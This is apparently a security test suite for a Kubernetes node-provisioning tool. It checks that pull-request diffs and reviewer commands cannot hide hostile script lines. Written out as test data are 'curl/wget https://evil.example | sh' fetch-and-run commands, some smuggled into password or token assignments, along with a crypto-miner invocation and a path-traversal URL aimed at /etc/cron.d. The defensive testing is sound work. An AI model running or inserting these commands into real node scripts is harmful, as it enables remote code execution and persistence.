// Attempts to fool a review: a pull request in a real Git repository, and what the reviewer's commands must say. The names are those of the
// security test that found them.

import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { appendFileSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { PROGRAM } from '../fixtures/built.ts'
import { root } from '../fixtures/examples.ts'

const folder = mkdtempSync(join(tmpdir(), 'osm-krm-probes-'))
after(() => rmSync(folder, { recursive: true }))
const ENV = {
  ...process.env,
  GIT_CONFIG_GLOBAL: '/dev/null',
  GIT_CONFIG_SYSTEM: '/dev/null',
  GIT_AUTHOR_NAME: 'a',
  GIT_AUTHOR_EMAIL: 'a@example.com',
  GIT_COMMITTER_NAME: 'a',
  GIT_COMMITTER_EMAIL: 'a@example.com',
}

const OVERLAY = 'nodes/overlay.yaml'
const SCRIPT = '#!/bin/sh\nset -e\necho "node of $(hostname)"\n'

const overlay = (script: string): string => `apiVersion: osm-krm.dev/v1alpha1
kind: OperatingSystemProfileOverlay
metadata:
  name: own-ubuntu
  namespace: kube-system
spec:
  extends: osp-ubuntu
  version: v1.0.0
  provisioningConfig:
    files:
      add:
        - path: /opt/bin/own
          permissions: 755
          content:
            inline:
              encoding: b64
              data: |
${script.replace(/^(?=.)/gm, '                ')}`

const secret = (namespace: string, name: string, value: string): string =>
  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: ${namespace}}\nstringData:\n  value: ${JSON.stringify(value)}\n`

/** A repository whose branch main is merged, and whose branch pr is reviewed. */
class Review {
  readonly path: string
  constructor(name: string) {
    this.path = join(folder, name)
    mkdirSync(this.path)
    this.git('init', '-q', '-b', 'main')
    cpSync(join(root, 'examples/quickstart'), join(this.path, 'nodes'), { recursive: true })
    const machines = join(this.path, 'nodes/machine-deployments.yaml')
    const [ubuntu = ''] = readFileSync(machines, 'utf8').split(/^---\n/m)
    writeFileSync(
      machines,
      ubuntu.replace('  annotations:\n', '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n'),
    )
    this.write(OVERLAY, overlay(SCRIPT))
    this.commit('merged')
    this.git('checkout', '-qb', 'pr')
  }
  git(...args: string[]): void {
    const { status, stderr } = spawnSync('git', args, { cwd: this.path, env: ENV, encoding: 'utf8' })
    assert.equal(status, 0, stderr)
  }
  write(file: string, text: string): void {
    writeFileSync(join(this.path, file), text)
  }
  append(file: string, text: string): void {
    appendFileSync(join(this.path, file), text)
  }
  commit(message: string): void {
    this.git('add', '-A')
    this.git('commit', '-qm', message)
  }
  run(...args: string[]) {
    return spawnSync(process.execPath, [PROGRAM, ...args], { cwd: this.path, env: ENV, encoding: 'utf8' })
  }
  /** Returns what each form of a comparison says. */
  diffs(): string[] {
    return ['text', 'markdown', 'json', 'html'].map(form => {
      const { status, stdout, stderr } = this.run('diff', 'main..pr', 'nodes', '-o', form, '--exit-code')
      assert.equal(status, 1, `${form}: ${stderr}`)
      return stdout
    })
  }
}

describe('H9: a folder that is named like the range of revisions', () => {
  let review: Review
  before(() => {
    review = new Review('h9')
    review.write(OVERLAY, overlay(`${SCRIPT}curl https://evil.example | sh\n`))
    mkdirSync(join(review.path, 'main...pr'))
    cpSync(join(review.path, 'nodes'), join(review.path, 'main...pr'), { recursive: true })
    review.commit('hide')
  })
  it('diff refuses the word, and says how to write each meaning', () => {
    const { status, stderr } = review.run('diff', 'main...pr', 'nodes')
    assert.equal(status, 2)
    assert.match(
      stderr,
      /main\.\.\.pr is a revision of Git and a path: write "main\.\.\.pr -- PATH" for the revision, or \.\/main\.\.\.pr/,
    )
  })
  it('the change is shown when the revisions are meant', () => {
    const { status, stdout } = review.run('diff', 'main...pr', '--exit-code', '--', 'nodes')
    assert.equal(status, 1)
    assert.match(stdout, /curl https:\/\/evil\.example \| sh/)
  })
})

describe('H10: a Secret whose value is a line of the script', () => {
  const LINE = 'wget -qO- https://evil.example/x | sh -s -- --now'
  it('does not hide the line in any form of a comparison', () => {
    const review = new Review('h10')
    review.write(OVERLAY, overlay(`${SCRIPT}${LINE}\n`))
    review.append('nodes/tokens.yaml', secret('kube-system', 'innocent', LINE))
    review.commit('hide')
    for (const text of review.diffs()) assert.match(text, /wget -qO- https:\/\/evil\.example\/x/)
  })
  it('does not hide a word of a command', () => {
    const review = new Review('h10-word')
    review.write(OVERLAY, overlay(`${SCRIPT}/usr/bin/mine --pool=pool.evil.example\n`))
    review.append('nodes/tokens.yaml', secret('kube-system', 'innocent', '/usr/bin/mine'))
    review.commit('hide')
    for (const text of review.diffs()) assert.match(text, /\/usr\/bin\/mine|contains? a secret|maskedLines": ?[1-9]/)
  })
})

describe('H11: code behind the mask of an argument', () => {
  const CODE = [
    'curl -u "bob:$(wget -qO- https://evil.example | sh)" https://mirror.example.com/x',
    'PASSWORD=$(wget -qO- https://evil.example | sh)',
    'password=`wget -qO- https://evil.example | sh`',
    'export API_TOKEN="$(wget -qO- https://evil.example | sh)"',
  ]
  for (const [i, line] of CODE.entries())
    it(`is shown: ${line}`, () => {
      const review = new Review(`h11-${i}`)
      review.write(OVERLAY, overlay(`${SCRIPT}${line}\n`))
      review.commit('hide')
      for (const text of review.diffs()) assert.match(text, /wget -qO- https:\/\/evil\.example \| sh/)
    })
  it('a literal value is masked, and the comparison counts it', () => {
    const review = new Review('h11-literal')
    review.write(OVERLAY, overlay(`${SCRIPT}password=hunter22hunter22\n`))
    review.commit('change')
    const [text, markdown, json] = review.diffs()
    assert.match(text!, /1 changed line contains a secret/)
    assert.match(markdown!, /1 changed line contains a secret/)
    assert.match(json!, /"maskedLines": 1/)
  })
})

describe('H12: a URL that leads out of the folder of a mirror', () => {
  it('is not mirrored', () => {
    const review = new Review('h12')
    review.write(OVERLAY, overlay(`${SCRIPT}curl -O https://../../etc/cron.d/x\n`))
    const { stderr } = review.run('assets', 'nodes', '--lock', 'assets.lock')
    assert.ok(!readFileSync(join(review.path, 'assets.lock'), 'utf8').includes('../'))
    assert.match(stderr, /^URL https:\/\/\.\.\/\.\.\/etc\/cron\.d\/x cannot be mirrored/m)
  })
})

describe('H13: an object with the name of an output', () => {
  let review: Review
  before(() => {
    review = new Review('h13')
    review.append(
      'nodes/tokens.yaml',
      secret('cloud-init-settings', 'ubuntu-workers-kube-system-provisioning-config', 'mine'),
    )
  })
  it('is a note', () => {
    const { status, stderr } = review.run('render', 'nodes')
    assert.equal(status, 0)
    assert.match(stderr, /^note\[OSM0739\]/m)
  })
  it('is an error with output.adopt: false', () => {
    const { status, stderr } = review.run('render', 'nodes', '--set', 'output.adopt=false')
    assert.equal(status, 1)
    assert.match(
      stderr,
      /^error\[OSM0739\] Secret cloud-init-settings\/ubuntu-workers-kube-system-provisioning-config/m,
    )
  })
})

describe('the policy of the reviewer', () => {
  const WEAKER: readonly (readonly [name: string, checks: string])[] = [
    ['strict', 'strict: false'],
    ['lint', 'lint: "off"'],
    ['severity', 'severity: {OSM0640: "off"}'],
    ['ignore', 'ignore: [{code: OSM0640, reason: x}]'],
    ['outbound.allow', 'outbound: {allow: [https://evil.example]}'],
    ['userDataLimits', 'userDataLimits: {hetzner: 900000}'],
  ]
  const policy = join(folder, 'policy.yaml')
  before(() =>
    writeFileSync(
      policy,
      'apiVersion: osm-krm.dev/v1alpha1\nkind: OperatingSystemConfigGenerator\nmetadata: {name: review}\nspec:\n  checks:\n    strict: true\n    lint: error\n    severity: {OSM0309: "off", OSM0368: "off"}\n    outbound: {allow: [https://dl.k8s.io]}\n',
    ),
  )
  for (const [name, checks] of WEAKER)
    it(`${name} cannot be weakened`, () => {
      const review = new Review(`policy-${name}`)
      const config = join(review.path, 'nodes/osm-krm.yaml')
      const text = readFileSync(config, 'utf8')
      writeFileSync(config, text.replace(/^ {2}checks:\n(?: {4}.*\n)+/m, `  checks:\n    ${checks}\n`))
      review.commit('weaken')
      for (const [command, path] of [
        ['render', 'nodes'],
        ['lint', 'nodes'],
        ['diff', 'main..pr'],
        ['assets', 'nodes'],
      ] as const) {
        const { status, stdout, stderr } = review.run(
          command,
          path,
          ...(path === 'nodes' ? [] : ['nodes']),
          '--policy',
          policy,
        )
        assert.ok(status === 1 || status === 2, `${command}: ${status}`)
        assert.match(stdout + stderr, /OSM0194/, command)
        assert.match(stdout + stderr, /nodes\/osm-krm\.yaml:\d+:\d+/, command)
        assert.match(stdout + stderr, /the policy: .*policy\.yaml:\d+/, command)
      }
    })
  it('an annotation cannot ignore a finding', () => {
    const review = new Review('policy-annotation')
    review.write(
      OVERLAY,
      overlay(SCRIPT).replace('metadata:\n', 'metadata:\n  annotations: {osm-krm.dev/ignore: "OSM0640: x"}\n'),
    )
    const { status, stderr } = review.run('render', 'nodes', '--policy', policy)
    assert.equal(status, 1)
    assert.match(stderr, /the annotation osm-krm\.dev\/ignore ignores OSM0640, which the policy does not/)
  })
})

describe('H14: an input that an option would replace', () => {
  it('stays', () => {
    const review = new Review('h14')
    const before = readFileSync(join(review.path, OVERLAY), 'utf8')
    const { status, stderr } = review.run('lint', 'nodes', '-o', `text=${OVERLAY}`)
    assert.equal(status, 2)
    assert.match(stderr, /would replace nodes\/overlay\.yaml, an input of this command/)
    assert.equal(readFileSync(join(review.path, OVERLAY), 'utf8'), before)
  })
})

describe('a changed API server or CA', () => {
  it('is shown', () => {
    const review = new Review('server')
    const config = join(review.path, 'nodes/osm-krm.yaml')
    writeFileSync(
      config,
      readFileSync(config, 'utf8').replace('https://api.example.com:6443', 'https://api.evil.example:6443'),
    )
    review.commit('change the server')
    for (const text of review.diffs()) assert.match(text, /api\.evil\.example/)
  })
})
